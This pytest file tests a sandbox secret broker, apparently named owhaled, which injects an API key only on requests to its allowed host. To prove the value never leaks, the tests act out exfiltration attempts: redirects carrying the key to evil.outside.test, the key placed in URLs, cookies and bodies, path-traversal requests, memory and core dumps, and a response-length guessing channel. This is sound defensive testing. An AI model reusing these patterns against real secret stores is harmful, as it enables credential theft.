"""A key that a run uses and cannot read: the value reaches the host that it is for, and nobody else, in no form."""

import json
import pathlib
import shlex
import subprocess
import time

import pytest

import stage

API = {"host": "api.outside.test", "port": 443}
LIMITED = {"host": "api.outside.test", "port": 443, "methods": ["GET"], "paths": ["/v1"]}
CURL = "curl -sS --max-time 10 "
SHOWN = '-H "Authorization: Bearer $OUTSIDE_KEY" '
# Two ways to owhaled's eyes: the run's own CA, or the local endpoint that is upgraded to TLS.
DOORS = {"inspected": "https://api.outside.test", "endpoint": "http://api.outside.test.owhale.internal"}


@pytest.fixture
def key(secret):
    return secret("OUTSIDE_KEY", API)


def with_key(cage, script, key, door="inspected", hosts=("api.outside.test:443",), **more):
    more.setdefault("inspect", True if door == "inspected" else None)
    return cage.bash(script, hosts=list(hosts), secrets=[{"name": key.name}], **more)


def shown(world, key):
    """The requests in which the value arrived."""
    return [one for one in world.odd.record.all() if any(key.value in value for _, value in one["headers"])]


def nowhere(done, key):
    """Neither in what the run printed nor in anything that is kept of it."""
    key.absent_from(done.out)
    key.absent_from(done.err)
    key.absent_from(json.dumps(done.record))


@pytest.mark.parametrize("door", DOORS)
@pytest.mark.parametrize("proxy", [True, False], ids=["proxy", "transparent"])
def test_used_and_not_read(cage, world, key, door, proxy):
    done = with_key(cage, f"echo $OUTSIDE_KEY; {CURL}{SHOWN}{DOORS[door]}/ok", key, door, proxy=proxy)
    assert done.code == 0 and "all well" in done.out, done
    assert key.placeholder in done.out and key.placeholder != key.value and "owhale-" in key.placeholder
    nowhere(done, key)
    [request] = world.odd.record.all()
    assert request["tls"] and ("authorization", f"Bearer {key.value}") in request["headers"], request
    assert dict(request["headers"])["host"] == "api.outside.test"
    assert dict(request["headers"]).get("accept-encoding", "identity") == "identity"
    rows = [row for row in done.tried("api.outside.test", verdict="allow") if row.get("secrets")]
    assert rows and rows[0]["secrets"] == [key.name], done


def test_used_by_programs(cage, world, key):
    """Python and node, that know nothing of it."""
    script = """
python3 -c "import os, requests; print(requests.get('https://api.outside.test/v1', headers={'Authorization': 'Bearer ' + os.environ['OUTSIDE_KEY']}).text)"
node -e "fetch('https://api.outside.test/v2', {headers: {authorization: 'Bearer ' + process.env.OUTSIDE_KEY}}).then(r => r.text()).then(console.log)"
"""
    done = with_key(cage, script, key)
    assert done.out.count("all well") == 2 and len(shown(world, key)) == 2, done


ASKS = "curl -sS --noproxy '*' --unix-socket /run/owhaled/owhaled.sock http://localhost/v1/runs -d "


def test_used_by_an_agent_inside_and_not_by_its_runs(cage, world, key):
    """A run gets the secrets that it was started with; those that it asks for have none of them."""
    use = f"echo ${{OUTSIDE_KEY:-none}}; {CURL}{SHOWN}{DOORS['endpoint']}"
    named = {"script": use + "/child", "wait": True, "net": "scoped", "secrets": [{"name": key.name}],
             "allow_hosts": [{"host": "api.outside.test", "ports": [443]}]}
    without = {"argv": ["python3", "-c", "import os; print(os.environ.get('OUTSIDE_KEY'))"], "wait": True, "net": "none"}
    script = f"{use}/agent\n" + "".join(f"{ASKS}{shlex.quote(json.dumps(one))}\necho\n" for one in (named, without))
    done = with_key(cage, script, key, "endpoint", profile="agent")
    assert done.code == 0 and "all well" in done.out, done
    nowhere(done, key)
    refused, child = (json.loads(line) for line in done.out.splitlines() if line.startswith("{"))
    assert refused["code"] == "secret_denied", refused
    assert child["parent"] == done.record["id"] and child["stdout"] == "None\n", child
    assert [one["path"] for one in shown(world, key)] == ["/agent"], (done, world.odd.record.all())


def test_git_with_basic(cage, world, secret):
    """git and npm know passwords: the same, inside Basic."""
    key = secret("OUTSIDE_KEY", API, prefix="Basic ")
    done = with_key(cage, f'{CURL} -u "user:$OUTSIDE_KEY" https://api.outside.test/ok', key)
    import base64
    [request] = world.odd.record.all()
    assert ("authorization", "Basic " + base64.b64encode(f"user:{key.value}".encode()).decode()) in request["headers"], (done, request)
    nowhere(done, key)


ECHOES = ["echo", "echo-header", "reason", "gzip", "deflate", "strange-coding", "base64", "base64url", "hex", "percent", "chunks", "border",
          "redirect?to=https://api.outside.test/ok?k=VALUE", "redirect?to=https://evil.outside.test/?k=VALUE"]


@pytest.mark.parametrize("door", DOORS)
def test_a_host_that_gives_it_back(cage, world, key, door):
    """Echoed, compressed, coded, cut into single bytes, across borders of buffers, in the reason, header or trailer."""
    lines = [f"echo == {path}; {CURL}-i {SHOWN}-H 'Accept-Encoding: gzip, br' '{DOORS[door]}/{path}' | cat -v || true" for path in ECHOES]
    done = with_key(cage, "\n".join(lines), key, door)
    nowhere(done, key)
    assert len(shown(world, key)) == len(ECHOES), done
    parts = done.out.split("== ")[1:]
    for part in parts:
        if part.startswith(("gzip", "deflate", "strange")):
            assert "HTTP/1.1 502 " in part and "Content-Encoding" in part, part


def test_parts(cage, world, key):
    """Two halves of an answer, asked for apart, are a value together: no part is asked for where a value could come."""
    done = with_key(cage, f"{CURL}{SHOWN}-r 0-10 'https://api.outside.test/part?half=1' || true\n{CURL}{SHOWN}-r 11- 'https://api.outside.test/part?half=2' || true",
                    key)
    half = len(key.value) // 2
    assert key.value[:half] not in done.out and key.value[half:] not in done.out, done
    nowhere(done, key)


def test_websocket(cage, world, key):
    """What comes through a WebSocket is searched as well; compression is not agreed to."""
    cage.put("ws.py", """
import os, socket, ssl
context = ssl.create_default_context()
with context.wrap_socket(socket.create_connection(("api.outside.test", 443), 10), server_hostname="api.outside.test") as s:
    s.sendall(("GET /ws HTTP/1.1\\r\\nHost: api.outside.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\n"
               "Sec-WebSocket-Extensions: permessage-deflate\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\nAuthorization: Bearer "
               + os.environ["OUTSIDE_KEY"] + "\\r\\n\\r\\n").encode())
    s.settimeout(1.5)
    whole = b""
    try:
        while part := s.recv(4096):
            whole += part
            if b"ping!" not in whole and b"\\r\\n\\r\\n" in whole: s.sendall(b"ping!")
    except OSError:
        pass
    print(whole.decode("latin-1"))
""")
    done = cage.run("python3", "ws.py", hosts=["api.outside.test:443"], inspect=True, secrets=[{"name": key.name}], proxy=False)
    [request] = shown(world, key)
    assert "sec-websocket-extensions" not in dict(request["headers"]), request
    nowhere(done, key)
    assert " 101 " in done.out and "ping!" in done.out, done


@pytest.mark.parametrize("door", DOORS)
def test_compressed_without_saying_so(cage, world, key, door):
    """Bytes that claim to be plain: the value is not in them as such. Known and stated: a host that is trusted with the key
    can always find a coding that nobody looks for; the key is for that host alone."""
    done = with_key(cage, f"{CURL}{SHOWN}{DOORS[door]}/gzip-unsaid --output - | base64 -w0", key, door)
    nowhere(done, key)


@pytest.mark.parametrize("door", DOORS)
def test_followed_redirects(cage, world, key, door):
    """curl sends the header on within a host only; to another host it is the placeholder that would go."""
    script = f"{CURL}-L --location-trusted {SHOWN}'{DOORS[door]}/redirect?to=https://odd.outside.test/echo' || true"
    done = with_key(cage, script, key, door, hosts=["api.outside.test:443", "odd.outside.test:443"])
    nowhere(done, key)
    first, *others = world.odd.record.all()
    assert key.value in repr(first) and key.value not in repr(others), others


def test_kept_and_told_to_another(cage, world, key):
    """A host that stores it and says it later, on another connection, without having been shown it again."""
    done = with_key(cage, f"{CURL}{SHOWN}https://api.outside.test/store; {CURL}https://api.outside.test/stored; {CURL}https://odd.outside.test/stored",
                    key, hosts=["api.outside.test:443", "odd.outside.test:443"])
    assert "kept was" in done.out, done
    nowhere(done, key)


WRONG = {
    "another host": (SHOWN, "https://odd.outside.test/ok"),
    "plain http": (SHOWN, "http://api.outside.test/ok"),
    "another port": (SHOWN, "https://api.outside.test:8443/ok"),
    "another header": ('-H "X-Key: $OUTSIDE_KEY" ', "https://api.outside.test/ok"),
    "another prefix": ('-H "Authorization: Token $OUTSIDE_KEY" ', "https://api.outside.test/ok"),
    "in the middle of the value": ('-H "Authorization: Bearer x$OUTSIDE_KEY" ', "https://api.outside.test/ok"),
    "twice in the value": ('-H "Authorization: Bearer $OUTSIDE_KEY $OUTSIDE_KEY" ', "https://api.outside.test/ok"),
    "header twice": (SHOWN + SHOWN.replace("Bearer", "Basic"), "https://api.outside.test/ok"),
    "cookie": ('-H "Cookie: k=$OUTSIDE_KEY" ', "https://api.outside.test/ok"),
    "host header of another": (SHOWN + "-H 'Host: api.outside.test' ", "https://odd.outside.test/ok"),
    "TRACE": (SHOWN + "-X TRACE ", "https://api.outside.test/ok"),
    "in the URL": ("", "https://api.outside.test/ok?k=$OUTSIDE_KEY"),
    "in the path": ("", "https://api.outside.test/$OUTSIDE_KEY"),
    "in a body": ('-d "k=$OUTSIDE_KEY" ', "https://api.outside.test/ok"),
    "in a form": ('-F "k=$OUTSIDE_KEY" ', "https://api.outside.test/ok"),
    "endpoint of another": (SHOWN, "http://odd.outside.test.owhale.internal/ok"),
    "wildcard neighbour": (SHOWN, "https://web.outside.test/ok"),
}


@pytest.mark.parametrize("way", WRONG)
def test_where_it_is_worth_nothing(cage, world, key, way):
    """The placeholder goes as it is, or the request is refused: the value goes nowhere."""
    options, url = WRONG[way]
    done = with_key(cage, f'{CURL}{options}"{url}" || true', key,
                    hosts=["api.outside.test:443,8443,80", "odd.outside.test:443", "web.outside.test:443"])
    assert shown(world, key) == [] and not world.odd.received(key.value), world.odd.record.all()
    assert not any(key.value in line for line in world.static.requests())
    nowhere(done, key)
    if way not in ("wildcard neighbour", "header twice", "TRACE"):
        assert done.warned("placeholder") or done.warned(key.name) or not world.odd.record.all(), done


def test_methods_and_paths(cage, world, secret):
    key = secret("OUTSIDE_KEY", LIMITED)
    paths = ["/v1", "/v1/x"], ["/v2", "/v1x", "/v1/../v2", "/v1/%2e%2e/v2", "/v1/..%2fv2", "//v1", "/V1", "/v1\\..\\v2", "/%76%31/../v2"]
    lines = [f"{CURL}-o /dev/null --path-as-is {SHOWN}'https://api.outside.test{path}' || true" for path in paths[0] + paths[1]]
    lines += [f"{CURL}-o /dev/null -X {method} {SHOWN}https://api.outside.test/v1 || true" for method in ("POST", "DELETE", "TRACE", "get")]
    done = with_key(cage, "\n".join(lines), key)
    assert {one["path"] for one in shown(world, key)} == set(paths[0]), (done, shown(world, key))
    assert {one["method"] for one in shown(world, key)} == {"GET"}


def test_passed_through_it_is_worth_nothing(cage, world, key):
    """Without the run's CA owhaled does not see the header: what arrives is the placeholder."""
    done = with_key(cage, f"{CURL}{SHOWN}https://api.outside.test/ok", key, inspect=None)
    assert "all well" in done.out and not world.odd.received(key.value) and world.odd.received(key.placeholder), done


def test_a_run_without_it(cage, world, key):
    """The placeholder of one run is no use in another that was not given the secret."""
    done = cage.bash(f"OUTSIDE_KEY={key.placeholder}\n{CURL}{SHOWN}https://api.outside.test/echo", hosts=["api.outside.test:443"], inspect=True)
    assert not world.odd.received(key.value), done
    nowhere(done, key)


def test_inspected_certificates(cage, world, key):
    """The run's CA vouches for allowed hosts only after their own certificate was checked; it is another in each run."""
    show = "/usr/bin/openssl s_client -connect {0}:443 -servername {0} </dev/null 2>/dev/null | /usr/bin/openssl x509 -noout -issuer -ext subjectAltName || echo none"
    script = show.format("api.outside.test") + "\n" + show.format("evil.outside.test")
    first = with_key(cage, script, key, proxy=False)
    assert "DNS:api.outside.test" in first.out and "owhale outside CA" not in first.out and "evil" not in first.out, first


def test_everything_readable(cage, owhaled, key, workspace):
    """Nothing that the run can read holds the value: memory, environments, files, descriptors; nor a core of its own."""
    dump = workspace / "dump.bin"
    done = cage.attack("snoop", dump, hosts=["api.outside.test:443"], inspect=True, secrets=[{"name": key.name}])
    assert done.code == 0 and key.placeholder in done.out, done
    read = dump.read_bytes()
    assert key.placeholder.encode() in read and len(read) > 1 << 20
    key.absent_from(read)
    crash = cage.bash(f"ulimit -c unlimited\n{CURL}{SHOWN}https://api.outside.test/ok\nsh -c 'kill -SEGV $$' || true\nls", hosts=["api.outside.test:443"],
                      inspect=True, secrets=[{"name": key.name}])
    nowhere(crash, key)
    for path in workspace.rglob("*"):
        if path.is_file():
            key.absent_from(path.read_bytes())


def test_everything_kept(cage, owhaled, world, key):
    """Nor does anything that owhaled wrote: its log, its databases and their journals, the audit log, its arguments."""
    done = with_key(cage, f"{CURL}{SHOWN}https://api.outside.test/echo", key)
    assert shown(world, key), done
    for path in pathlib.Path(owhaled.base).rglob("*"):
        if path.is_file():
            key.absent_from(path.read_bytes())
    for pid in [owhaled.process.pid, *owhaled.children()]:
        for name in ("cmdline", "environ"):
            key.absent_from(pathlib.Path(f"/proc/{pid}/{name}").read_bytes())
    key.absent_from(cage.person.get("/v1/audit?limit=1000").body)
    key.absent_from(cage.person.get(f"/v1/secrets/{key.name}").body)


def test_owhaleds_memory_is_closed(owhaled, key):
    """Another user of the machine, and the one who asks, read no memory of the broker; a core of it would not hold the value."""
    broker = owhaled.broker()
    for name in ("mem", "environ", "maps"):
        tried = subprocess.run(["setpriv", "--reuid=61234", "--regid=61234", "--clear-groups", "head", "-c1", f"/proc/{broker}/{name}"],
                               capture_output=True)
        assert tried.returncode != 0, name
    filter = int(pathlib.Path(f"/proc/{broker}/coredump_filter").read_text(), 16)
    limits = pathlib.Path(f"/proc/{broker}/limits").read_text()
    assert "Max core file size        0 " in limits or filter == 0 or undumpable(broker)


def undumpable(pid):
    """Its /proc is root's although its uid is not."""
    status = pathlib.Path(f"/proc/{pid}/status").read_text()
    uid = int(status.split("Uid:")[1].split()[0])
    return pathlib.Path(f"/proc/{pid}/environ").stat().st_uid == 0 != uid


def test_rotated_while_it_runs(cage, world, key, admin):
    """The new value counts from the next use on, also for a run that has begun."""
    script = f"{CURL}{SHOWN}https://api.outside.test/one; touch first; for i in $(seq 100); do test -e go && break; sleep 0.1; done; " \
             f"{CURL}{SHOWN}https://api.outside.test/two || true"
    cage.put("client.sh", script)
    run = cage.begin("bash", "./client.sh", hosts=["api.outside.test:443"], inspect=True, secrets=[{"name": key.name}])
    world.odd.record.wait(lambda one: one["path"] == "/one", 10)
    other = "sk-" + "n" * 40
    admin.do("POST", f"/v1/secrets/{key.name}/rotate", {"value": other})
    cage.put("go", "")
    done = cage.end(run)
    two = [one for one in world.odd.record.all() if one["path"] == "/two"]
    assert not two or key.value not in repr(two), "a value that was replaced was used"
    assert other not in done.out


def test_removed_while_it_runs(cage, world, secret, admin):
    key = secret("GONE_KEY", API, variable="OUTSIDE_KEY")
    script = f"{CURL}{SHOWN}https://api.outside.test/one; for i in $(seq 100); do test -e go && break; sleep 0.1; done; " \
             f"{CURL}{SHOWN}https://api.outside.test/two || true"
    cage.put("client.sh", script)
    run = cage.begin("bash", "./client.sh", hosts=["api.outside.test:443"], inspect=True, secrets=[{"name": key.name}])
    world.odd.record.wait(lambda one: one["path"] == "/one", 10)
    admin.do("DELETE", f"/v1/secrets/{key.name}", status=204)
    cage.put("go", "")
    cage.end(run)
    assert not [one for one in world.odd.record.all() if one["path"] == "/two" and key.value in repr(one)]
    secret("GONE_KEY", API)  # for the fixture to take away


def test_real_value_is_masked(cage, key):
    """`--secret NAME=env`: the run has the value, its output does not show it."""
    done = cage.bash("printenv OUTSIDE_KEY; printenv OUTSIDE_KEY >&2; printenv OUTSIDE_KEY | wc -c", hosts=["web.outside.test"],
                     secrets=[{"name": key.name, "as": "env"}])
    assert str(len(key.value) + 1) in done.out, done
    assert key.value not in done.out + done.err + json.dumps(done.record), done


def test_anothers_secret(cage, key, owhaled, world):
    """Whoever has no right to it learns not even that it is there."""
    answer = owhaled.ask("POST", "/v1/runs", {"wait": True, **cage.request(["true"], hosts=["api.outside.test:443"], secrets=[{"name": key.name}])},
                         uid=61235)
    missing = owhaled.ask("POST", "/v1/runs", {"wait": True, **cage.request(["true"], hosts=["api.outside.test:443"], secrets=[{"name": "NOT_THERE"}])},
                          uid=61235)
    assert answer.status == missing.status in (403, 404), (answer, missing)
    assert answer.code == missing.code
    assert stage.DOMAIN


def test_guessed_by_what_is_held_back(cage, world, key):
    """A host that echoes, and a run that watches how much of its guess comes back at once: right or wrong, it is the same."""
    cage.put("guess.py", """
import os, socket, sys, time
def echoed(guess):
    with socket.create_connection(("api.outside.test.owhale.internal", 80), 10) as s:
        s.sendall(("GET /ws HTTP/1.1\\r\\nHost: api.outside.test.owhale.internal\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n"
                   "Sec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\nAuthorization: Bearer "
                   + os.environ["OUTSIDE_KEY"] + "\\r\\n\\r\\n").encode())
        time.sleep(0.5)
        s.settimeout(0.7)
        s.recv(65536)
        s.sendall(b"<guess>" + guess.encode())
        whole = b""
        try:
            while part := s.recv(4096): whole += part
        except OSError:
            pass
        return len(whole)
print([echoed(guess) for guess in sys.argv[1:]])
""")
    wrong = key.value[:4] + "".join("0" if c != "0" else "1" for c in key.value[4:])
    guesses = [text[:size] for size in (5, 12, 40) for text in (key.value, wrong)]
    done = cage.run("python3", "guess.py", *guesses, hosts=["api.outside.test:443"], secrets=[{"name": key.name}], proxy=False)
    got = json.loads(done.out)
    assert got[0::2] == got[1::2], done


def test_a_report_does_not_grow_by_the_runs_words(cage, key):
    """Its reasons hold words of the run's: a header's name of 30 KB, to many hosts, is no record of megabytes."""
    cage.put("words.py", """
import os, socket
for i in range(40):
    host = f"h{i}.outside.test"
    with socket.create_connection((host, 80), 10) as s:
        s.sendall(f"GET / HTTP/1.1\\r\\nHost: {host}\\r\\n{'A' * 30000}: {os.environ['OUTSIDE_KEY']}\\r\\n\\r\\n".encode())
        s.recv(1)
""")
    done = cage.run("python3", "words.py", hosts=["*.outside.test:80"], secrets=[{"name": key.name}], proxy=False)
    assert done.code == 0 and len(done.tried("h0.outside.test")) == 1, done
    assert len(json.dumps(done.record)) < 100_000 and all(len(line) < 1000 for line in done.err.splitlines())


def test_quiet_connections_hold_little(cage, owhaled, key):
    """What owhaled holds for a connection that was searched and is quiet is its TLS, no buffers."""
    cage.put("quiet.py", """
import os, socket, time
held = [socket.create_connection(("api.outside.test.owhale.internal", 80), 10) for _ in range(300)]
for s in held:
    s.sendall(("GET /ws HTTP/1.1\\r\\nHost: api.outside.test.owhale.internal\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n"
               "Sec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\nAuthorization: Bearer "
               + os.environ["OUTSIDE_KEY"] + "\\r\\n\\r\\n").encode())
for s in held: s.recv(65536), s.sendall(b"!" * 100)
print("all", flush=True)
time.sleep(4)
""")
    before = owhaled.memory()
    run = cage.begin("python3", "quiet.py", hosts=["api.outside.test:443"], secrets=[{"name": key.name}], proxy=False)
    most, end = 0, time.monotonic() + 20
    while time.monotonic() < end and cage.person.get(f"/v1/runs/{run}").json()["state"] == "running":
        time.sleep(0.3)
        most = max(most, owhaled.memory())
    done = cage.end(run)
    assert done.code == 0 and "all" in done.out and (most - before) / 300 < 120_000, (done, before, most)
